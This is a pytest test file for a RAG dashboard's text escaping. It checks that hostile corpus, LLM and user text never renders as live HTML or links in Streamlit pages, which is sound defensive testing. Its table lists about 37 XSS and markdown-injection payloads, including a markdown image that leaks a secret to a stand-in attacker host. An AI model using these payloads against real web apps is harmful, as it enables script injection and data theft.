"""Corpus, LLM and user text is shown escaped in the dashboard: never live HTML, never a link.

The markdown checks parse with markdown-it-py (CommonMark, installed with rich), told to accept
every link target, so a `javascript:` link that Streamlit's renderer could form shows up as a token.
"""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
from google.protobuf.descriptor import FieldDescriptor
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from dashboard.safe_text import escape, html_block
from tests.factories import write_beir

DASHBOARD = Path(__file__).resolve().parents[2] / "dashboard"
TIMEOUT = 30

SCRIPT = "<script>alert(1)</script>"
IMAGE = "<img src=x onerror=alert(1)>"
LINK = "[x](javascript:alert(1))"
# Blank lines between them: after one, markdown ends a raw HTML block and parses links again.
HOSTILE_TEXT = f"{SCRIPT}\n\n{IMAGE}\n\n{LINK}"

# Hostile strings for escape(): raw HTML, every markdown link and image form, and tricks that
# undo a naive escape (a backslash of the text's own, an entity, a code span, a blank line).
HOSTILE_STRINGS = [
    SCRIPT,
    IMAGE,
    LINK,
    HOSTILE_TEXT,
    "<a href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>body { display: none }</style>",
    "<!-- x --><script>alert(1)</script>",
    "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "<javascript:alert(1)>",
    "<http://attacker.example/>",
    "![x](javascript:alert(1))",
    "![pixel](http://attacker.example/leak?secret=42)",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    '[x](javascript:alert(1) "title")',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x\n](javascript:alert(1))",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][]\n\n [x]: <javascript:alert(1)>",
    "[x\\](javascript:alert(1))",
    "\\[x](javascript:alert(1))",
    "[x]\\(javascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "`code`[x](javascript:alert(1))",
    "[x`](javascript:alert(1))`",
    "**[x](javascript:alert(1))**",
    ":red[[x](javascript:alert(1))]",
    "[[x](javascript:alert(1))](javascript:alert(2))",
    "$\\href{javascript:alert(1)}{x}$",
    "Cats purr [1] and [2](javascript:alert(1)).",
]


def markdown_parser() -> MarkdownIt:
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    parser.validateLink = lambda url: True  # see every link a renderer could form, javascript: too
    return parser


def tokens(text: str) -> Iterator:
    for token in markdown_parser().parse(text):
        yield token
        yield from token.children or []


def live(text: str) -> list[str]:
    """What in ``text`` markdown would turn into a link, an image or raw HTML."""
    return [f"{t.type}: {t.attrs or t.content}" for t in tokens(text)
            if t.type in ("link_open", "image", "html_inline", "html_block")]


@pytest.mark.unit
@pytest.mark.parametrize("text", HOSTILE_STRINGS)
def test_escaped_text_has_no_html_and_no_link_and_reads_as_written(text):
    escaped = escape(text)
    assert live(escaped) == [] and "<" not in escaped
    assert html.unescape(escaped) == text  # every replacement is a character reference


@pytest.mark.unit
@pytest.mark.parametrize("text", HOSTILE_STRINGS)
def test_html_block_stays_one_raw_html_block(text):
    block = html_block(f"{escape(text)}<mark>{escape(text)}</mark>")
    parsed = [t for t in tokens(block) if t.type not in ("inline", "text")]
    assert [t.type for t in parsed] == ["html_block"]  # markdown never parses inside it
    assert re.sub(r"</?mark>|<div style='white-space: pre-wrap'>|</div>", "", block).count("<") == 0
    assert html.unescape(block).count(text.replace("\r\n", "\n").replace("\r", "\n")) == 2


@pytest.mark.unit
def test_the_table_is_hostile():
    # Unescaped, 30 strings make a link, an image or raw HTML; the other 7 defeat naive escapes.
    assert sum(bool(live(text)) for text in HOSTILE_STRINGS) == 30 and len(HOSTILE_STRINGS) == 37


@pytest.mark.unit
def test_escape_leaves_plain_text_and_citations_alone():
    for text in ("Cats purr when content [1].", "**bold** and _italic_", "- a list\n- of items", "q1: 0.5 · ok"):
        assert escape(text) == text


# --- the pages ---------------------------------------------------------------------------------

DOC_IDS = [LINK, SCRIPT, IMAGE]


def markdown_strings(app: AppTest) -> list[tuple[str, bool]]:
    """(text, allow_html) of every string the page hands Streamlit's markdown renderer: markdown,
    captions, alerts, labels, help and progress texts; code, JSON and tables are left out (they are
    never interpreted)."""
    found: list[tuple[str, bool]] = []

    def strings(message, allow_html: bool) -> None:
        for field, value in message.ListFields():
            if field.type == FieldDescriptor.TYPE_MESSAGE:
                for item in [value] if hasattr(value, "ListFields") else value:
                    strings(item, allow_html)
            elif isinstance(value, str) and field.name in ("body", "label", "help", "text"):
                found.append((value, allow_html))

    for node in [*app.main, *app.sidebar]:
        if node.proto is not None and getattr(node, "type", "") not in ("code", "json"):
            strings(node.proto, bool(getattr(node.proto, "allow_html", False)))
    return found


def assert_nothing_live(app: AppTest) -> None:
    assert not app.exception, [e.value for e in app.exception]
    texts = markdown_strings(app)
    assert texts
    for text, allow_html in texts:
        assert "<script" not in text.lower() and "<img" not in text.lower(), text
        assert not [t for t in live(text) if t.startswith(("link_open", "image"))], text
        if allow_html:  # only the drill-down's chunk view, and only its own tags
            assert re.sub(r"</?mark>|<div style='white-space: pre-wrap'>|</div>", "", text).count("<") == 0, text
            assert [t.type for t in tokens(text) if t.type not in ("inline", "text")] == ["html_block"], text
        else:
            assert not live(text), text


@pytest.fixture
def hostile_results(tmp_path, isolated_data_dir) -> Path:
    """Results folder 'hostile': runs r1 and r2 (top_k 3 and 5) over question q1, whose text, the
    answer, the judge's input, raw reply and error, a score's error, and the retrieved documents'
    ids and texts are all hostile."""
    from ragkit.questions import catalogue
    from ragkit.results import ResultStore
    from ragkit.settings import get_settings

    docs = {doc_id: f"{doc_id} says: {HOSTILE_TEXT}" for doc_id in DOC_IDS}
    beir = write_beir(tmp_path / "beir", docs=docs, questions={"q1": (f"what purrs? {LINK} {SCRIPT}", LINK)})
    catalogue.register_question_set("hostile-beir", beir, "beir")
    out = get_settings().results_root() / "hostile"
    store = ResultStore(out)
    for run_id, top_k in (("r1", 3), ("r2", 5)):
        store.write_run(run_id, {
            "run_id": run_id, "experiment": "hostile", "corpus": "beir", "corpus_id": "c", "chunkset_id": "cs",
            "index_id": "ix", "chunker": "document", "embedder": None, "retriever": "bm25", "top_k": top_k,
            "retriever.top_k": top_k, "judge.rerank": "llm", "generator": True,
        })
        keys = {"run_id": run_id, "question_id": "q1"}
        retrievals = pd.DataFrame([{**keys, "rank": rank, "chunk_id": f"c-{rank}", "doc_id": doc_id, "start_char": 0,
                                    "end_char": len(docs[doc_id]), "score": 1.0 / rank}
                                   for rank, doc_id in enumerate(DOC_IDS, start=1)])
        answers = pd.DataFrame([{**keys, "answer": f"Cats purr [1]. {HOSTILE_TEXT}",
                                 "citations": json.dumps(["c-1", LINK]), "contexts": "[]",
                                 "prompt": HOSTILE_TEXT, "valid": False, "error": f"bad reply: {LINK} {SCRIPT}"}])
        judgements = pd.DataFrame([{**keys, "judge": "rerank", "input_summary": f"{LINK} | {IMAGE}",
                                    "decision": json.dumps({"kept": [LINK]}), "raw_reply": HOSTILE_TEXT,
                                    "valid": False, "error": f"no JSON in {SCRIPT} {LINK}", "fell_back": True,
                                    "seconds": 0.2, "cache_hit": False}])
        scores = pd.DataFrame([{**keys, "metric": "recall@1", "value": 1.0, "error": None},
                               {**keys, "metric": "faithfulness", "value": float("nan"),
                                "error": f"ragas failed: {HOSTILE_TEXT}"}])
        stages = pd.DataFrame([{**keys, "stage": "retrieve", "seconds": 0.01, "cached": False},
                               {**keys, "stage": "judge:rerank", "seconds": 0.2, "cached": False, "llm_calls": 1,
                                "backend_calls": 1, "invalid_replies": 1}])
        store.commit_shard(run_id, ["q1"], {"scores": scores, "retrievals": retrievals, "stages": stages,
                                            "answers": answers, "judgements": judgements})
    return out


@pytest.mark.integration
def test_drilldown_shows_hostile_text_escaped(hostile_results):
    app = AppTest.from_file(str(DASHBOARD / "views" / "6_drilldown.py"), default_timeout=TIMEOUT).run()
    assert_nothing_live(app)
    texts = [text for text, _ in markdown_strings(app)]
    # the hostile text is there, escaped: the answer, each chunk, the doc ids, the judge's input and error
    assert f"Cats purr [1]. {escape(HOSTILE_TEXT)}" in texts
    chunks = [text for text, allow_html in markdown_strings(app) if allow_html]
    assert sorted(chunks) == sorted(2 * [html_block(escape(f"{doc_id} says: {HOSTILE_TEXT}")) for doc_id in DOC_IDS])
    assert all(any(escape(doc_id) in text and "score" in text for text in texts) for doc_id in DOC_IDS)
    assert any(escape(f"{LINK} | {IMAGE}") == text for text in texts)
    assert any(escape(f"no JSON in {SCRIPT} {LINK}") in text for text in texts)
    assert any(text.startswith("Cites: #1, ") for text in texts)
    # the raw reply and the prompt are code: shown exactly, never interpreted
    assert HOSTILE_TEXT in [code.value for code in app.code]


@pytest.mark.integration
def test_compare_shows_hostile_text_escaped(hostile_results):
    from dashboard.compare_sections import SECTIONS

    def compare_tab(section: str) -> AppTest:
        app = AppTest.from_file(str(DASHBOARD / "views" / "5_compare.py"), default_timeout=TIMEOUT)
        app.query_params["section"] = section  # each tab draws only when open
        return app.run()

    for section in SECTIONS:
        assert_nothing_live(compare_tab(section))
    reasons = next(d.value for d in compare_tab("Answer quality").dataframe if "reason" in d.value.columns)
    assert any(HOSTILE_TEXT in str(example) for example in reasons["example"])  # a table: never interpreted
